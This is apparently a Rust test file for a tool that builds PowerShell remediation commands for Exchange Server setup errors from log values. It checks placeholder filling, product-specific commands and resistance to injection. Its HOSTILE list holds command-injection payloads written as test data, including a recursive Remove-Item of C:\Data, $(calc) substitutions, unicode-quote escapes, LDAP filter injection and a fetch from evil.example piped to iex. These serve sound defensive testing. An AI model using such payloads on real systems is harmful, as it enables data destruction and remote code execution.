//! Commands of the catalog, filled with what a log may hold.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use setup_readiness::catalog::Catalog;
use setup_readiness::catalog::entry::Entry;
use setup_readiness::facts::form::Form;
use setup_readiness::report::commands::{COMMON, commands, form, shown};
use setup_readiness::report::shell::{Piece, pieces};

#[path = "../fuzz/commands.rs"]
mod filled;

/// What somebody may have got into a log to have it run.
const HOSTILE: &[&str] = &[
    "EX1 (Remove-Item C:\\Data -Recurse -Force)",
    "EX1; Remove-Item C:\\Data",
    "EX1'; Remove-Item C:\\Data; '",
    "EX1\u{2019}; Remove-Item C:\\Data; \u{2018}",
    "EX1\u{201b}\u{201b}\u{201b}; calc",
    "EX1\u{201d}; calc; \u{201c}",
    "EX1$(calc)",
    "$(calc)",
    "${env:TEMP}",
    "EX1`\"; calc",
    "EX1 | calc",
    "EX1 & calc",
    "EX1\" & calc & \"",
    "EX1&&calc",
    "%COMSPEC%",
    "^&calc",
    "!COMSPEC!",
    "EX1 > C:\\Windows\\x",
    "@{a=1}",
    "{calc}",
    "[calc]::x()",
    "EX1\ncalc",
    "EX1\rcalc",
    "EX1\u{2028}calc",
    "EX1\0calc",
    "EX1\u{202e}clac",
    "-Credential x",
    "/Roles:Mailbox",
    "--x",
    "CN=x'; calc,DC=contoso,DC=com",
    "CN=x\u{2019};calc,DC=contoso,DC=com",
    "CN=$(calc),DC=contoso,DC=com",
    "CN=x\",DC=contoso & calc",
    "C:\\Data'; calc; '",
    "C:\\Data\\..\\..\\Windows",
    "C:\\*",
    "C:\\$(calc)",
    "C:\\a & calc",
    "\\\\evil.example\\share\\x.exe' | iex #",
    "a)(cn=*",
    "x))(|(cn=*",
    "1; calc",
    "1 -or 1=1",
    "CONTOSO\\admin' -Confirm:$false; calc '",
    "CONTOSO\\admin\" /add & calc & \"",
    "admin@contoso.com; calc",
    "#",
    "",
    " ",
    "<x>",
];

/// What a log does hold, and the least number of commands that take it.
const USUAL: &[(&str, usize)] = &[
    ("EX1", 30),
    ("ex1.contoso.com", 30),
    ("CONTOSO\\admin", 12),
    ("CONTOSO\\O'Brien", 12),
    ("CN=Exchange Servers,OU=Microsoft Exchange Security Groups,DC=contoso,DC=com", 8),
    ("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", 15),
    ("S-1-5-21-1-2-3-500", 1),
    ("10.1.2.3", 2),
    ("MSExchangeADTopology", 2),
    ("1234", 3),
];

#[test]
fn no_command_runs_what_a_log_says() {
    for value in HOSTILE {
        filled::fill_all(value);
    }
    // In the middle and at the end of a name that has the right form.
    for (usual, _) in USUAL {
        for at in [usual.len() / 2, usual.len()] {
            for mark in
                ['\'', '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '"', '\u{201c}', '`', '$', '%', '&', '|', ';', '(', '\\', '\n']
            {
                filled::fill_all(&format!("{}{mark}{}", &usual[..at], &usual[at..]));
            }
        }
    }
}

#[test]
fn names_of_the_right_form_are_filled_in() {
    for (value, least) in USUAL {
        let took = filled::fill_all(value);
        assert!(took >= *least, "{value}: {took}");
    }
}

#[test]
fn every_placeholder_can_be_filled() {
    for entry in Catalog::default().entries() {
        let names = entry.values.iter().map(|(name, _)| *name).chain(COMMON.iter().map(|(name, _)| *name));
        let values: Vec<(&str, String)> = names.map(|name| (name, usual(entry, name).to_owned())).collect();
        for (template, command) in entry.commands().map(|(_, command)| command).zip(commands(entry, None, &shown(entry, &[]), &values, &[]))
        {
            for piece in pieces(template.text) {
                if let Piece::Name(name) = piece
                    && name != "license"
                {
                    assert!(!command.text.contains(&format!("<{}>", name.replace('_', " "))), "{}: {}", entry.id, command.text);
                }
            }
        }
    }
}

#[test]
fn exchange_is_removed_with_the_switch_of_the_installed_build() {
    let (_, row) = Catalog::default().find("CafeRoleAlreadyExists").unwrap();
    let values = [("license", "/Newer".to_owned()), ("license_installed", "/Older".to_owned())];
    let text_of = |name: &str, values: &[(&'static str, String)]| {
        commands(row, Some("2016"), &shown(row, &[]), &[], values).into_iter().find(|command| command.name == name).unwrap().text
    };
    assert_eq!(text_of("uninstall", &values), r".\Setup.exe /Older /Mode:Uninstall");
    assert_eq!(text_of("upgrade", &values), r".\Setup.exe /Newer /Mode:Upgrade");
    assert_eq!(text_of("uninstall", &values[..1]), r".\Setup.exe /Newer /Mode:Uninstall");
}

#[test]
fn no_command_names_a_group_that_windows_translates() {
    for entry in Catalog::default().entries() {
        for (_, command) in entry.commands() {
            for group in ["Domain Admins", "Schema Admins", "Enterprise Admins", "localgroup Administrators", "'Administrators'"] {
                assert!(!command.text.contains(group), "{}: {}", entry.id, command.text);
            }
        }
    }
}

/// The commands of a row for a product.
fn of_product(id: &str, product: Option<&str>) -> Vec<String> {
    let catalog = Catalog::default();
    let entry = catalog.entries().find(|entry| entry.id == id).expect("a row");
    commands(entry, product, &shown(entry, &[]), &[], &[]).into_iter().map(|command| command.text).collect()
}

#[test]
fn commands_of_other_products_are_left_out() {
    let moves = |product| of_product("OffLineABServerDeleted", Some(product)).iter().any(|text| text.contains("Move-OfflineAddressBook"));
    assert!(moves("2013") && !moves("2019") && !moves("SE"));
    let newer = |product| of_product("AdditionalUMLangPackExists", Some(product)).iter().any(|text| text.contains("DiagnosticDataOFF"));
    assert!(!newer("2013") && newer("2016"));
}

#[test]
fn features_are_installed_as_the_oldest_windows_of_the_product_can() {
    // Windows Server 2008 R2, on which Exchange 2013 runs, has these features and no Install-WindowsFeature.
    let old = [
        "Web-Metabase",
        "Web-Lgcy-Mgmt-Console",
        "Web-Basic-Auth",
        "Web-Digest-Auth",
        "Web-Dyn-Compression",
        "Web-Stat-Compression",
        "Web-Windows-Auth",
        "Web-ISAPI-Ext",
        "WAS-Process-Model",
        "RPC-over-HTTP-proxy",
        "Desktop-Experience",
    ];
    for entry in Catalog::default().entries() {
        for text in of_product(entry.id, Some("2013")).iter().filter(|text| text.contains("Install-WindowsFeature")) {
            let features = text.split(|c: char| !c.is_alphanumeric() && c != '-');
            assert!(features.into_iter().all(|word| !old.contains(&word)), "{}: {text}", entry.id);
        }
    }
    let feature = |product, name| of_product("UcmaRedistMsi", Some(product)).iter().any(|text| text.contains(name));
    for (product, wanted, other) in [
        ("2013", "Add-WindowsFeature Desktop-Experience", "Server-Media-Foundation"),
        ("2019", "Install-WindowsFeature Server-Media-Foundation", "Desktop-Experience"),
    ] {
        assert!(feature(product, wanted) && !feature(product, other), "{product}");
    }
}

#[test]
fn disabled_services_are_found_without_wmi() {
    // Setup disables WMI too; where it failed, questions to WMI fail.
    for id in ["helper-program-failed", "W3SVCDisabledOrNotInstalled"] {
        let texts = of_product(id, Some("2019"));
        assert!(texts.iter().any(|text| text.contains(r"HKLM:\SYSTEM\CurrentControlSet\Services")), "{id}: {texts:?}");
    }
    assert!(of_product("helper-program-failed", None).iter().all(|text| !text.contains("Win32_Service")));
}

#[test]
fn the_tenant_file_that_is_exported_is_the_one_that_is_given() {
    for id in ["DidTenantSettingCreatedAnException", "HybridIsEnabledAndTenantVersionIsNotUpgraded"] {
        let texts = of_product(id, Some("2019"));
        for part in [r#"Export-Clixml -Path "$env:TEMP\"#, r#"/TenantOrganizationConfig:"$env:TEMP\"#] {
            assert!(texts.iter().any(|text| text.contains(part)), "{id}: {part}");
        }
    }
}

#[test]
fn what_another_media_installed_is_uninstalled_with_its_own_switch() {
    for product in [None, Some("2016"), Some("2019"), Some("SE")] {
        let texts = of_product("ExchangeAlreadyInstalled", product);
        for switch in ["/IAcceptExchangeServerLicenseTerms /Mode", "/IAcceptExchangeServerLicenseTerms_DiagnosticDataOFF /Mode"] {
            assert!(texts.iter().any(|text| text.contains(switch)), "{product:?}: {texts:?}");
        }
    }
}

/// A value of the right form.
fn usual(entry: &Entry, name: &str) -> &'static str {
    match form(entry, name).expect("a declared value") {
        Form::Address => "10.1.2.3",
        Form::Dn => "CN=Exchange Servers,DC=contoso,DC=com",
        Form::Connector => "EX1\\Default Frontend EX1",
        Form::Word => "Owa",
        Form::Guid => "1f05a927-89c0-4725-adca-4527114196a1",
        Form::Path => "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\",
        Form::Sid => "S-1-5-21-1-2-3-500",
        Form::Number => "7",
        Form::Version => "15.2.1118.7",
        _ => "ex1",
    }
}
